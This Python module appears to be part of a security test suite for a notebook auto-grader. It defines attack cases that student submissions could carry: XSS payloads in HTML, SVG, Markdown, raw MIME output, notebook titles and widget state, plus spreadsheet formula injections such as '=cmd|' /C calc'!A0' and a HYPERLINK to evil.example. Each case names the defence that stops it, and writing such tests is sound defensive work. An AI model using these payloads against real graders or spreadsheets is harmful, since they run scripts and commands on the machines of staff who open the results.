"""D18: feedback, formgrader and tables that act on whoever opens them."""

from hostile.core import ASKED, LAST, RIGHT, Attack

_HTML = """
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML("<script>window.mark='mark-@NAME@'</script><img src=x onerror=alert('mark-@NAME@')>"))
display(HTML("<iframe src='javascript:alert(1)'></iframe><a href='javascript:alert(1)'>x</a>"))
display(HTML("<form action='http://evil.example/'><input name=a></form><style>body{display:none}</style>"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert('mark-@NAME@')</script></svg>"))
display(Javascript("window.mark = 'mark-@NAME@'"))
display(Markdown("[x](javascript:alert(1)) <script>alert('mark-@NAME@')</script>"))
"""
_RAW = """
from IPython.display import display
display({"application/javascript": "alert('mark-@NAME@')",
    "text/html": "<svg/onload=alert(1)><math><mi//xlink:href='javascript:alert(1)'>",
    "image/svg+xml": "<svg onload=alert(1)><script>mark-@NAME@</script></svg>",
    "text/latex": "$<script>alert('mark-@NAME@')</script>$",
    "application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert('mark-@NAME@')</script>"},
    "image/png": "x' onerror='alert(1)"}, raw=True)
"""
_FORMULA = """
import subprocess
def double(x):
    raise type("=HYPERLINK('http://evil.example/mark','+1')", (Exception,), {})("=cmd|' /C calc'!A0")
def hinge_loss_loops(*a):
    raise type("@SUM(1)", (Exception,), {})("+1+cmd|' /C calc'!A0")
"""


def _markdown(found):
    text = "<script>alert('mark-a18-markdown')</script>\n\n[x](javascript:alert(1))\n\n"
    text += '![x](x "onerror=alert(1)")\n\n<img src=x onerror=alert(1)>'
    for name in range(3):
        found["cells"].insert(2, {"cell_type": "markdown", "id": f"own-{name}", "metadata": {}, "source": text})
    found["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"x": "</script><script>alert('mark-a18-markdown')"}}
    }
    found["metadata"]["title"] = "</title><script>alert('mark-a18-markdown')</script>"


_EASY = {"last": RIGHT["last"]}
ATTACKS = (
    Attack(
        "a18-html",
        18,
        "displays scripts, frames, forms, styles",
        {**_EASY, "double": _HTML + ASKED["double"]},
        LAST,
        stops="feedback is sanitised",
    ),
    Attack(
        "a18-mime",
        18,
        "displays raw JavaScript, SVG, widgets, pictures that are none",
        {**_EASY, "double": _RAW + ASKED["double"]},
        LAST,
        stops="feedback is sanitised",
    ),
    Attack(
        "a18-markdown",
        18,
        "writes scripts into text, title and widget state",
        _EASY,
        LAST,
        edit=_markdown,
        stops="feedback is sanitised",
    ),
    Attack(
        "a18-formula",
        18,
        "errors that a spreadsheet would compute",
        {**_EASY, "double": _FORMULA, "hinge": ASKED["hinge"]},
        LAST,
        stops="such cells are written as text",
    ),
    Attack(
        "=1+cmd",
        18,
        "a student's name that a spreadsheet would compute",
        _EASY,
        LAST,
        stops="such names are kept as others",
    ),
)
